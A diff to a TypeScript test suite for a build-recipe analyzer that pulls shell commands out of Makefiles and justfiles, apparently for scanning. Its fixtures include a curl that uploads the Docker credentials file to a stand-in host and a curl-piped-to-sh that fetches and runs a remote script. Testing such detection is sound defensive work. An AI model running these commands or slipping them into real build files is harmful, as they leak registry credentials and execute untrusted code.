@@ -23,11 +23,12 @@ function commands(file: string, text: string): [number, string][] {
 
 describe('recipe analyzer', () => {
   it('Makefile: recipe lines with make syntax folded to shell, variables and rule lines left out', () => {
-    const text = 'IMAGE ?= app\nURL = https://x.test/a\n\n.PHONY: all\nall: dep\n\t@curl -s -F f=@$(HOME)/.docker/config.json https://x.test/v\n\t-echo $$PATH ${IMAGE}\n\nother:\n\tls\n';
+    const text = 'IMAGE ?= app\nURL = https://x.test/a\n\n.PHONY: all\nall: dep\n\t@curl -s -F f=@$(HOME)/.docker/config.json https://x.test/v\n\t-echo $$PATH ${IMAGE}\n\tprintf "$(R)RAILWAY_TOKEN missing$(Z)"\n\nother:\n\tls\n';
     assert.deepEqual(commands('Makefile', text), [
-      [6, 'curl -s -F f=@$HOME/.docker/config.json https://x.test/v'],
-      [7, 'echo $PATH $IMAGE'],
-      [10, 'ls'],
+      [6, 'curl -s -F f=@${HOME}/.docker/config.json https://x.test/v'],
+      [7, 'echo $PATH ${IMAGE}'],
+      [8, 'printf "${R}RAILWAY_TOKEN missing${Z}"'],
+      [11, 'ls'],
     ]);
   });
 
@@ -37,7 +38,7 @@ describe('recipe analyzer', () => {
 
   it('justfile: indented lines under a recipe, {{var}} as a shell variable', () => {
     const text = 'set shell := ["bash", "-cu"]\nversion := "1"\n\nsetup:\n    curl -fsSL https://x.test/i.sh | sh\n\nbuild target:\n    @cargo build --bin {{target}}\n';
-    assert.deepEqual(commands('justfile', text), [[5, 'curl -fsSL https://x.test/i.sh | sh'], [8, 'cargo build --bin $target']]);
+    assert.deepEqual(commands('justfile', text), [[5, 'curl -fsSL https://x.test/i.sh | sh'], [8, 'cargo build --bin ${target}']]);
   });
 
   it('Taskfile: cmds items, cmd: values and block scalars; task references and descriptions skipped', () => {
